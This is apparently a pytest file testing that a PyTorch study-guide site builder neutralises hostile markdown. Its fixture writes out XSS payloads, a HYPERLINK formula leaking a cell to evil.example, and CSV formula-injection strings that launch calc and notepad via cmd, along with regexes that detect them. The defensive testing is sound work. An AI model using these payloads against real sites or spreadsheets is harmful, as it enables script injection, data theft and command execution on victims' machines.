"""Hostile content in a source: scripts, handlers, javascript:/data: URLs, SVG, iframes, CSS url(),
remote images, template syntax, spreadsheet formulas. One build of a tiny project; each case checks what
a reader (or a spreadsheet) gets: nothing runs, nothing is fetched, and the words are all still there."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from faultkit import mkdocs, tiny_project

HOSTILE = """# Notes

## What is a hostile answer?

Hello <img src=x onerror="alert(1)"> world of tensors.
<iframe src="https://evil.example/frame"></iframe>
A <span style="background:url(https://evil.example/bg.png)">styled</span> word,
a [script link](javascript:alert(1)) and a [data link](data:text/html;base64,PHNjcmlwdD4=).
<svg onload="alert(2)"><script>alert(3)</script></svg>
![remote pixel](https://evil.example/pixel.png)
Template {{ config.site_name }} and {% include "x" %} stay text.
<script>alert("x")</script>

## What does a spreadsheet run?

=HYPERLINK("https://evil.example/?leak="&A1,"click") is a formula.

## What is an at formula?

@SUM(1+1)*cmd|' /C calc'!A0 is another.

## What is a plus formula?

+cmd|' /C notepad'!A0 runs a program.

## What is a minus formula?

-2+3 looks like arithmetic.
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    project = tiny_project(tmp_path_factory.mktemp("hostile") / "p", sources={"hostile.md": HOSTILE})
    result = mkdocs(project, "build")
    assert result.returncode == 0, result.stderr[-3000:]
    return project / "site"


def pages(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8") for p in site.rglob("*.html")}


def outputs(site: Path) -> dict[str, str]:
    """Every page plus the two downloads made from the answers (CSV, questions.json)."""
    found = pages(site)
    found["questions.json"] = (site / "questions.json").read_text(encoding="utf-8")
    found["csv"] = (site / "downloads" / "pytorch-interview-questions.csv").read_text(encoding="utf-8")
    return found


def csv_rows(site: Path) -> dict[str, dict]:
    text = (site / "downloads" / "pytorch-interview-questions.csv").read_text(encoding="utf-8")
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def answer(site: Path, qid: str) -> str:
    data = json.loads((site / "questions.json").read_text(encoding="utf-8"))
    return next(q["answer"] for q in data["questions"] if q["id"] == qid)


@pytest.mark.parametrize(
    "pattern",
    [
        r"onerror\s*=",
        r"onload\s*=",
        r"<iframe",
        r"url\(https://evil",
        r"(href|src)=\"javascript:alert",
        r"(href|src)=\"data:",
        r"<script>alert",
        r"src=\"https://evil",
    ],
)
def test_nothing_hostile_reaches_a_page_or_a_download(site, pattern):
    for name, text in outputs(site).items():
        assert not re.search(pattern, text), f"{pattern} in {name}"


def test_remote_image_is_a_link_never_loaded(site):
    html = pages(site)["topics/basics/index.html"] + pages(site).get("topics/training/index.html", "")
    assert "https://evil.example/pixel.png" not in re.findall(r'<img[^>]+src="([^"]+)"', html)


def test_template_syntax_is_text(site):
    assert "{{ config.site_name }}" in answer(site, "hostile-answer")
    assert "PyTorch Interview Study Guide and" not in answer(site, "hostile-answer")


def test_the_words_of_the_hostile_answer_are_kept(site):
    text = answer(site, "hostile-answer")
    for words in ("Hello", "world of tensors", "styled", "script link", "data link", "stay text"):
        assert words in text, words
    assert "<img" not in text and "<span" not in text and "alert(3)" not in text


@pytest.mark.parametrize(
    "qid, start",
    [
        ("what-spreadsheet-run", '=HYPERLINK("https://evil.example/?leak="&A1,"click")'),
        ("formula", "@SUM(1+1)"),
        ("plus-formula", "+cmd|"),
        ("minus-formula", "-2+3"),
    ],
)
def test_csv_cells_never_start_a_formula_and_keep_their_text(site, qid, start):
    row = csv_rows(site)[qid]
    assert row["answer"] == "'" + answer(site, qid), "one apostrophe in front, the text unchanged"
    assert row["answer"].startswith("'" + start)
    assert not any(value.startswith(("=", "@", "+", "-")) for value in row.values())


@pytest.mark.parametrize("unit", ["[a ", "![a ", "<a ", "[[", "[x](y "])
def test_unbalanced_brackets_in_notes_markdown_render_without_the_quadratic_parser(monkeypatch, unit):
    """12 KB of unclosed `[`, `![` or `<a` took Python-Markdown 12-70 s (it rescans the rest of the text from
    each one): such a fragment goes to markdown-it (linear), and every word is kept."""
    import markdown

    from studysite import render

    def quadratic(*args, **kwargs):
        raise AssertionError("Python-Markdown was asked to render a fragment full of brackets")

    monkeypatch.setattr(markdown.Markdown, "convert", quadratic)
    render.md_fragment.cache_clear()
    text = (unit + "word ") * (12_000 // len(unit + "word "))
    html = render.md_fragment(text)
    assert html.count("word") == text.count("word")
    assert "<script" not in html and "onerror" not in html


def test_a_few_links_still_render_as_before():
    from studysite import render

    assert render.md_fragment("See [the docs](https://pytorch.org/docs) and `torch.cat`.") == (
        'See <a href="https://pytorch.org/docs" rel="noopener nofollow">the docs</a> and <code>torch.cat</code>.'
    )
